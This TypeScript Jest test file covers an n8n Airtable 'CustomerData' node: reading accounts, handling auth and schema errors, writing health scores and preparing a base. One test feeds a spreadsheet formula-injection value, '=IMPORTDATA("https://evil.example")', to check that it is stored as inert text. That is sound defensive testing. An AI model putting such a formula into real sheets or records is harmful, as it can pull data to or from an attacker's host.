import type { IDataObject, INodeParameters } from 'n8n-workflow';

import {
	AIRTABLE_BASE_ID,
	AIRTABLE_TOKEN,
	createAirtableFake,
	type AirtableOptions,
} from '../fakes/airtable';
import type { FakeColumn, FakeRow, FakeTable } from '../fakes/airtableBase';
import prepareSchema from '../../nodes/CustomerData/__schema__/v1.0.0/setup/prepare.json';
import writeSchema from '../../nodes/CustomerData/__schema__/v1.0.0/account/writeScores.json';
import type { SeededFake } from '../fakes/Fake';
import { virtualClock } from '../fakes/virtualClock';
import { customerData, jsons, type CustomerDataInput } from '../support/customerData';

const mockClock = virtualClock();
jest.mock('n8n-workflow', () => ({
	...jest.requireActual<object>('n8n-workflow'),
	sleep: async (milliseconds: number) => await mockClock.sleep(milliseconds),
}));
beforeAll(() => jest.spyOn(Date, 'now').mockImplementation(() => mockClock.now()));
afterAll(() => jest.restoreAllMocks());
// The pacer of a base is shared by all runs of the process; a minute later it has room again.
beforeEach(() => mockClock.pass(60_000));

const airtable = (options: Partial<AirtableOptions> = {}) =>
	createAirtableFake({ accounts: 3, children: 1, now: mockClock.now, ...options });
const BASE: INodeParameters = {
	source: 'airtable',
	base: { __rl: true, mode: 'list', value: AIRTABLE_BASE_ID },
};

function node(fake: SeededFake, parameters: INodeParameters, more: Partial<CustomerDataInput> = {}) {
	return customerData({
		...{ source: 'airtable', fake, headers: { authorization: AIRTABLE_TOKEN }, inputs: [[{}]] },
		...more,
		parameters: { ...BASE, runId: 'r', ...parameters },
	});
}
const read = (fake: SeededFake, parameters: INodeParameters = {}, more: Partial<CustomerDataInput> = {}) =>
	node(fake, { resource: 'account', operation: 'getAll', records: [], ...parameters }, more);
const write = (
	fake: SeededFake,
	inputs: CustomerDataInput['inputs'],
	parameters: INodeParameters = {},
	continueOnFail = false,
) => node(fake, { resource: 'account', operation: 'writeScores', ...parameters }, { inputs, continueOnFail });
const words = (run: { readonly hints: ReadonlyArray<{ readonly message: string }> }) =>
	run.hints.map(({ message }) => message).join('\n');
const faultOf = async (run: { run: () => Promise<unknown> }): Promise<IDataObject> =>
	await run.run().then(
		() => ({ message: 'nothing went wrong' }),
		(caught: IDataObject) => ({
			name: caught.name,
			message: caught.message,
			description: caught.description,
		}),
	);
const table = (fake: ReturnType<typeof airtable>, name: string) => fake.base.table(name) as FakeTable;
const score = (accountId: string, more: IDataObject = {}): IDataObject => ({
	run_id: 'r',
	score: 'health',
	account_id: accountId,
	as_of_on: '2026-11-20',
	value: 81.84,
	band: 'good',
	coverage: 0.9,
	confidence: 'high',
	trend: 'stable',
	delta: 1,
	reason: 'Usage grows.',
	...more,
});

describe('a base', () => {
	test('by its address, its ID or from the list', async () => {
		for (const base of [
			{ __rl: true, mode: 'url', value: `https://airtable.com/${AIRTABLE_BASE_ID}/tblX/viwY?blocks=hide` },
			{ __rl: true, mode: 'id', value: AIRTABLE_BASE_ID },
			AIRTABLE_BASE_ID,
		]) {
			const [accounts = []] = jsons(await read(airtable(), { base }).run());
			expect(accounts.map(({ account_id: id }) => id)).toEqual(['CUST_0001', 'CUST_0002', 'CUST_0003']);
		}
	});

	test('without a base: which field to fill, and nothing is sent', async () => {
		const fake = airtable();
		expect(await faultOf(read(fake, { base: '' }))).toMatchObject({
			message: 'No Airtable base was chosen.',
			description: expect.stringContaining('field Base'),
		});
		expect(fake.log).toEqual([]);
	});

	test('a wrong token', async () => {
		const fake = airtable();
		fake.plan({ fault: '401', times: 9 });
		expect(await faultOf(read(fake))).toMatchObject({
			name: 'NodeOperationError',
			message: expect.stringContaining('401'),
			description: expect.stringContaining('Create a token at airtable.com/create/tokens'),
		});
	});

	test('a missing scope', async () => {
		expect(await faultOf(read(airtable({ scopes: ['data.records:read'] })))).toMatchObject({
			message: expect.stringContaining('403'),
			description: expect.stringContaining('schema.bases:read'),
		});
	});

	test('a deleted table names those that are there', async () => {
		const fake = airtable();
		fake.base.tables.splice(fake.base.tables.indexOf(table(fake, 'Tickets')), 1);
		expect(await faultOf(read(fake, { records: ['tickets'] }))).toMatchObject({
			message: expect.stringMatching(/no table "Tickets" for tickets. It has "Accounts", "Contacts"/),
			description: expect.stringContaining('leave tickets out'),
		});
	});

	test('an empty base', async () => {
		const fake = airtable({ accounts: 0 });
		fake.base.tables.splice(0);
		expect(await faultOf(read(fake))).toMatchObject({
			message: expect.stringContaining('It has no tables.'),
			description: expect.stringContaining('Prepare'),
		});
	});

	test('a table without records', async () => {
		const run = read(airtable({ accounts: 0 }));
		expect(jsons(await run.run()).map(({ length }) => length)).toEqual([0, 0, 0, 1]);
		expect(words(run)).toContain('No accounts came.');
	});

	test('a base that calls the table Customer Assets is taken over', async () => {
		const [accounts = []] = jsons(
			await read(airtable({ accountTable: 'Customer Assets' }), {
				keyField: { __rl: true, mode: 'name', value: 'Customer ID' },
			}).run(),
		);
		expect(accounts.map(({ account_id: id }) => id)).toContain('CUST_0001');
	});
});

describe('a renamed column', () => {
	const renamed = (from: string, to: string) => {
		const fake = airtable();
		const column = fake.base.column(table(fake, 'Accounts'), from) as FakeColumn;
		column.name = to;
		return { fake, column };
	};

	test('that holds the account ID stops the read: every account would get another ID', async () => {
		expect(await faultOf(read(renamed('Account ID', 'Customer Number').fake))).toMatchObject({
			message: expect.stringMatching(/no column "Account ID".*"Customer Number"/),
			description: expect.stringContaining('choose another key field'),
		});
	});

	test('mapped by its ID goes on to be read', async () => {
		const { fake, column } = renamed('ARR', 'Revenue');
		const fields = { accounts: [{ field: 'arr_minor', vendorField: column.id }] };
		const [[account = {}] = []] = jsons(await read(fake, { fields }).run());
		expect(account.arr_minor).toBe(1_200_100);
	});

	test('mapped by its name is left out and said', async () => {
		const fields = { accounts: [{ field: 'arr_minor', vendorField: 'ARR' }] };
		const run = read(renamed('ARR', 'Revenue').fake, { fields });
		const [[account = {}] = []] = jsons(await run.run());
		expect(account.arr_minor).toBeNull();
		expect(words(run)).toMatch(/field 'ARR' of accounts; it was left out. .*Choose the field again/);
	});

	test('of the preset is said, because it is empty everywhere', async () => {
		const run = read(renamed('ARR', 'Revenue').fake);
		await run.run();
		expect(words(run)).toMatch(
			/Empty in every record that was read: .*ARR of accounts.*choose it under Field Mapping/,
		);
	});

	test('a field that is not wanted is not read', async () => {
		const fields = { accounts: [{ field: 'arr_minor', vendorField: '-' }] };
		const run = read(airtable(), { fields });
		const [[account = {}] = []] = jsons(await run.run());
		expect(account.arr_minor).toBeNull();
		expect(words(run)).not.toContain('ARR of accounts');
	});
});

test('two records with the same key: the second is a dead letter that names both', async () => {
	const fake = airtable();
	const twin = fake.base.insert(table(fake, 'Accounts'), { 'Account ID': 'CUST_0001', Name: 'Twin' });
	const [accounts = [], , problems = []] = jsons(await read(fake).run());
	expect(accounts).toHaveLength(3);
	expect(problems).toMatchObject([
		{
			class: 'duplicate',
			external_id: twin.id,
			message: expect.stringMatching(/have the same 'Account ID'.*Merge the two/),
			resolved_at: null,
		},
	]);
	expect(Object.keys(problems[0] ?? {})).toEqual([
		...['letter_id', 'source', 'object', 'external_id', 'payload_json', 'class', 'message', 'attempts'],
		...['first_at', 'last_at', 'resolved_at'],
	]);
});

test('a colleague who looks after several accounts comes once', async () => {
	const [, records = []] = jsons(await read(airtable({ accounts: 9 }), { records: ['people'] }).run());
	const people = records.flatMap(({ person_id: id }) => (id === undefined ? [] : [id]));
	expect(people.sort()).toEqual([0, 1, 2].map((n) => `airtable:csm${n}@example.com`));
});

test('an account that is gone is reported as deleted, from the accounts of the last run', async () => {
	const fake = airtable();
	const [known = []] = jsons(await read(fake).run());
	mockClock.pass(60_000);
	fake.remove(fake.accountIds()[1] ?? '');
	const [accounts = []] = jsons(await read(fake, {}, { inputs: [[{}], known] }).run());
	expect(accounts.map(({ account_id: id, deleted }) => [id, deleted])).toEqual([
		['CUST_0001', false],
		['CUST_0003', false],
		['CUST_0002', true],
	]);
});

test('a contact with an address that is none: the row comes, the value is kept apart and said', async () => {
	const fake = airtable();
	const [contact] = [...table(fake, 'Contacts').rows.values()];
	const email = fake.base.column(table(fake, 'Contacts'), 'Email') as FakeColumn;
	(contact as FakeRow).cells[email.id] = 'not an address';
	const run = read(fake, { records: ['contacts'] });
	const [, records = []] = jsons(await run.run());
	const contacts = records.filter((row) => 'contact_id' in row);
	expect(contacts).toHaveLength(3);
	expect(contacts[0]).toMatchObject({ email: null, raw: { email: 'not an address' } });
	expect(words(run)).toMatch(/email/);
	expect(words(run)).not.toContain('not an address');
});

describe('Write Scores', () => {
	const written = async (
		fake: ReturnType<typeof airtable>,
		scores: IDataObject[],
		parameters: INodeParameters = {},
	) => {
		const [accounts = []] = jsons(await read(fake).run());
		const run = write(fake, [scores, accounts], parameters);
		const outputs = await run.run();
		return { run, outputs, results: jsons(outputs)[0] ?? [], problems: jsons(outputs)[1] ?? [], accounts };
	};
	const cell = (fake: ReturnType<typeof airtable>, key: string, column: string) => {
		const accounts = table(fake, 'Accounts');
		const id = (name: string) => fake.base.column(accounts, name)?.id ?? '';
		const row = [...accounts.rows.values()].find(({ cells }) => cells[id('Account ID')] === key);
		return row?.cells[id(column)];
	};

	test('results leave linked to the score they are about, and what was written is in the base', async () => {
		const fake = airtable();
		const { outputs, results, run } = await written(fake, [score('CUST_0002'), score('CUST_0001')]);
		expect(results).toMatchObject([
			{
				account_id: 'CUST_0002',
				status: 'written',
				row_hash: expect.stringMatching(/^[0-9a-f]{12}$/),
				error: null,
			},
			{ account_id: 'CUST_0001', status: 'written' },
		]);
		expect(outputs[0]?.map(({ pairedItem }) => pairedItem)).toEqual([{ item: 0 }, { item: 1 }]);
		expect(Object.keys(results[0] ?? {})).toEqual(Object.keys(writeSchema.properties));
		expect(cell(fake, 'CUST_0001', 'Health Score')).toBe(81.8);
		expect(words(run)).toContain('Read 2, created 0, written 2, unchanged 0');
	});

	test('the second time nothing is sent, because nothing but the date changed', async () => {
		const fake = airtable();
		await written(fake, [score('CUST_0001')]);
		const before = fake.log.filter(({ method }) => method === 'PATCH').length;
		const { results } = await written(fake, [score('CUST_0001', { as_of_on: '2026-11-21', run_id: 'r2' })]);
		expect(results).toMatchObject([{ status: 'unchanged' }]);
		expect(fake.log.filter(({ method }) => method === 'PATCH')).toHaveLength(before);
	});

	test.each(["O'Hara", 'back\\slash', "'quoted\\' and more"])(
		'a key such as %s finds its own record',
		async (key) => {
			const fake = airtable();
			fake.base.insert(table(fake, 'Accounts'), { 'Account ID': key, Name: 'Odd' });
			const run = write(fake, [[score(key)], null]);
			expect(jsons(await run.run())[0]).toMatchObject([{ account_id: key, status: 'written' }]);
			expect(cell(fake, key, 'Health Band')).toBe('good');
			expect(fake.accountIds()).toHaveLength(4);
		},
	);

	test('a computed column is left out and said; the rest is written', async () => {
		const fake = airtable();
		const accounts = table(fake, 'Accounts');
		accounts.columns.splice(
			accounts.columns.findIndex(({ name }) => name === 'Health Score'),
			1,
		);
		fake.base.addColumn(accounts, 'Health Score', 'formula');
		const { results, run } = await written(fake, [score('CUST_0001')]);
		expect(results).toMatchObject([{ status: 'written' }]);
		expect(cell(fake, 'CUST_0001', 'Health Band')).toBe('good');
		expect(words(run)).toMatch(/'Health Score'.*computed.*Choose another column/);
	});

	test('a select option that does not exist: said, or created on request', async () => {
		const fake = airtable();
		const band = fake.base.column(table(fake, 'Accounts'), 'Health Band') as FakeColumn;
		band.choices = ['great'];
		const { run } = await written(fake, [score('CUST_0001')]);
		expect(cell(fake, 'CUST_0001', 'Health Score')).toBe(81.8);
		expect(words(run)).toMatch(/Add the option "good".*Create Missing Select Options/);
		await written(fake, [score('CUST_0002')], { sourceOptions: { typecast: true } });
		expect(cell(fake, 'CUST_0002', 'Health Band')).toBe('good');
	});

	test('a text that a spreadsheet would take for a formula is written as a text', async () => {
		const fake = airtable();
		await written(fake, [score('CUST_0001', { reason: '=IMPORTDATA("https://evil.example")' })]);
		expect(String(cell(fake, 'CUST_0001', 'Reasons'))).toMatch(/^[^=+@-]*=IMPORTDATA/);
	});

	test('a text of 100 kB is written, a longer one cut; the other records are not touched by it', async () => {
		const fake = airtable();
		const { results } = await written(fake, [
			score('CUST_0001', { reason: 'x'.repeat(100_000) }),
			score('CUST_0002', { reason: 'y'.repeat(300_000) }),
			score('CUST_0003'),
		]);
		expect(results.map(({ status }) => status)).toEqual(['written', 'written', 'written']);
		expect(String(cell(fake, 'CUST_0002', 'Reasons')).length).toBeLessThanOrEqual(100_000);
	});

	test('a score that is none is a dead letter with its reason; the others are written', async () => {
		const fake = airtable();
		const scores = [score('CUST_0001', { value: 140 }), score('CUST_0002'), { note: 'no score' }];
		const { outputs, results, problems, run } = await written(fake, scores);
		expect(results.map(({ account_id: id, status }) => [id, status]).sort()).toEqual([
			['', 'failed'],
			['CUST_0001', 'failed'],
			['CUST_0002', 'written'],
		]);
		expect(problems).toMatchObject([
			{ class: 'invalid', message: expect.stringContaining('0 to 100') },
			{ class: 'invalid', message: expect.stringContaining('no account_id') },
		]);
		expect(outputs[1]?.map(({ pairedItem }) => pairedItem)).toEqual([{ item: 0 }, { item: 2 }]);
		expect(words(run)).toContain('failed 2');
	});

	test('an error item of Health Score is not a score and is counted', async () => {
		const { results, run } = await written(airtable(), [{ error: 'No value' }, score('CUST_0001')]);
		expect(results).toHaveLength(1);
		expect(words(run)).toContain('not a score 1');
	});

	test('200,000 rows with one and the same fate are told one by one', async () => {
		const rows = Array.from({ length: 200_000 }, () => score('CUST_0001'));
		const fake = airtable();
		fake.plan({ fault: '401', times: 99 });
		const outputs = await write(fake, [rows, null], { keyField: 'Account ID' }, true).run();
		expect(outputs[0]).toHaveLength(200_000);
		const refused = await write(fake, [rows.map(() => score('')), null], {}, true).run();
		expect(refused[0]).toHaveLength(200_000);
		expect(refused[1]?.at(-1)?.pairedItem).toEqual({ item: expect.any(Number) });
	});

	test('a base that was never prepared: nothing counts as written, and the remedy is Prepare Base', async () => {
		const scores = ['CUST_0001', 'CUST_0002'].map((id) => score(id));
		const fake = airtable({ prepared: false });
		expect(await faultOf(write(fake, [scores, null], { keyField: 'Account ID' }))).toMatchObject({
			message: expect.stringContaining('none of the fields'),
			description: expect.stringContaining('Prepare Base'),
		});
		const outputs = jsons(await write(fake, [scores, null], {}, true).run());
		expect(outputs[0]?.map(({ status }) => status)).toEqual(['deferred', 'deferred']);
		expect(outputs[0]?.[0]?.error).toContain('Prepare Base');
		expect(outputs[1]).toMatchObject([{ remedy: expect.stringContaining('Prepare Base') }]);
	});

	test('a login that is refused stops the run, or is one error item', async () => {
		const refused = () => {
			const fake = airtable();
			fake.plan({ fault: '401', times: 99 });
			return fake;
		};
		expect(await faultOf(write(refused(), [[score('CUST_0001')], null]))).toMatchObject({
			description: expect.stringContaining('token'),
		});
		const outputs = await write(refused(), [[score('CUST_0001')], null], {}, true).run();
		expect(outputs[1]?.[0]?.json).toMatchObject({ error: expect.stringContaining('401') });
	});

	test('a login that ends halfway: what was written is told, the rest is deferred, nothing is lost', async () => {
		const fake = airtable({ accounts: 25 });
		const [accounts = []] = jsons(await read(fake).run());
		fake.plan({ fault: '401', on: 'PATCH', after: 1, times: 99 });
		const run = write(fake, [accounts.map(({ account_id: id }) => score(String(id))), accounts]);
		const results = jsons(await run.run())[0] ?? [];
		const count = (status: string) => results.filter((row) => row.status === status).length;
		expect(results).toHaveLength(25);
		expect(count('written')).toBe(10);
		expect(count('deferred')).toBe(15);
		expect(words(run)).toContain('Stopped before the end');
	});
});

test('usage with a record for each metric is told, because only one of a day would stay', async () => {
	const fake = airtable();
	const usage = table(fake, 'Usage');
	for (const [metric, value] of [
		['Sessions', 5],
		['API Calls', 9],
	] as const)
		fake.base.insert(usage, { 'Account ID': 'CUST_0001', Date: '2026-11-19', Metric: metric, Value: value });
	const run = read(fake, { records: ['usage'] });
	const [, records = []] = jsons(await run.run());
	expect(records.filter((row) => row.starts_on === '2026-11-19')).toHaveLength(2);
	expect(words(run)).toMatch(/several usage records for the same account.*column for each metric/);
});

describe('Prepare Base', () => {
	const prepare = (fake: SeededFake, apply: boolean) =>
		node(fake, { resource: 'setup', operation: 'prepare', apply, sourceOptions: { prepareOnly: 'results' } });

	test('shows first what it would create, creates it on request, and has nothing to do the second time', async () => {
		const fake = airtable({ prepared: false });
		const shown = prepare(fake, false);
		const [steps = []] = jsons(await shown.run());
		expect(steps.filter(({ status }) => status === 'missing').map(({ name }) => name)).toContain(
			'Health Score',
		);
		expect(Object.keys(steps[0] ?? {})).toEqual(Object.keys(prepareSchema.properties));
		expect(words(shown)).toContain('Nothing was created. Switch Apply on');
		expect(fake.log.every(({ method }) => method === 'GET')).toBe(true);
		const applied = prepare(fake, true);
		const [made = []] = jsons(await applied.run());
		expect(made.filter(({ status }) => status === 'failed')).toEqual([]);
		expect(fake.base.column(table(fake, 'Accounts'), 'Health Score')).toBeDefined();
		const [again = []] = jsons(await prepare(fake, true).run());
		expect(again.some(({ status }) => status === 'created' || status === 'missing')).toBe(false);
	});

	test('without the right to create says which scope is missing', async () => {
		const scopes = ['data.records:read', 'data.records:write', 'schema.bases:read'];
		const run = prepare(airtable({ prepared: false, scopes }), true);
		const [steps = []] = jsons(await run.run());
		expect(steps.some(({ message }) => String(message).includes('schema.bases:write'))).toBe(true);
	});
});
